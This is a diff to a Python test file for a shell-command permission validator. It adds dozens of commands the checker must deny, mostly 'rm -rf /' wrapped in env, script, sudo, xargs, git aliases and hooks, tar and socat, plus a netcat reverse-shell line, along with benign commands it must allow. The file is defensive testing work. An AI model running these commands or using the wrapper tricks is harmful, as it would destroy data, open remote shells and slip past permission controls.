@@ -140,6 +140,43 @@ source file
 . file
 alias ls='rm -rf /'
 ld-linux-x86-64.so.2 /bin/rm -rf /
+env -S'rm -rf /'
+env -iS'rm -rf /'
+env -Srm -rf /
+env --split-string='rm -rf /'
+env --split-string=rm -rf /
+env -S'sh script'
+script -c'rm -rf /' x
+script --command='rm -rf /' x
+echo 'rm -rf /' | script
+echo 'rm -rf /' | su
+echo 'rm -rf /' | sudo -s
+echo 'rm -rf /' | unshare -r
+flock l -c'rm -rf /'
+echo rm -rf / | xargs env
+echo rm -rf / | xargs nohup
+echo -rf / | xargs nice -n 5 rm
+xargs -a cmds env
+xargs -a cmds sudo -u root
+xargs -a cmds timeout 5
+parallel < cmds
+find . -exec {} \\;
+find . -exec env {} \\;
+git config alias.x '!rm -rf /'
+git -C dir config core.pager 'rm -rf /'
+git bisect run rm -rf /
+git submodule foreach 'rm -rf /'
+git filter-branch --tree-filter 'rm -rf /'
+git difftool -x 'rm -rf /'
+git mergetool
+git some-alias
+git $x
+git rebase --exe='rm -rf /'
+split --filter='rm -rf /' x
+split --filt='rm -rf /' x
+tar --checkpoint-a=exec=rm -cf a b
+socat EXEC:'rm -rf /' -
+nc -e /bin/sh host 1
 curl http://x
 ls;curl http://x
 echo 'unclosed
@@ -154,6 +191,16 @@ rm -r folder
 echo rm -rf /
 grep -r 'rm -rf /' .
 git status && git log --oneline | head -3
+git -C dir status
+git add config submodule
+git --version
+split -l 5 file
+ls | xargs wc -l
+env FOO=1 ls -l
+timeout 5 ls
+chroot /x ls
+find . -exec wc -l {} \\;
+script -c 'ls -l' x
 git commit -m 'push curl'
 for f in *.txt; do cat "$f"; done
 find . -name '*.py'
@@ -272,6 +319,28 @@ echo $(ls)
 @pytest.mark.parametrize("command", split_table(NOT_ALLOWED))
 def test_only_what_a_rule_means_for_sure_is_allowed(command: str) -> None:
     assert judge(ALLOW_SHELL, SHELL, command=command) == "deny"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git config alias.x '!rm -rf /'",
+        "git bisect run rm -rf /",
+        "git submodule foreach rm",
+        "git filter-branch --tree-filter rm",
+        "git difftool",
+        "git mergetool",
+        "git x",
+        "git -C dir x",
+        "git log --ext",
+    ],
+)
+def test_a_rule_on_all_of_git_is_none_on_what_git_runs(command: str) -> None:
+    rules = {"mode": "deny", "allow": ("shell_exec(git *)",)}
+    assert judge(rules, SHELL, command=command) == "deny"
+    assert judge(rules, SHELL, command="git -C dir log -3 && git add config") == "allow"
+    named = {"mode": "deny", "allow": ("shell_exec(git bisect start *)",)}
+    assert judge(named, SHELL, command="git bisect start HEAD v1") == "allow"
 
 
 @pytest.mark.parametrize("command", split_table(ALLOWED))
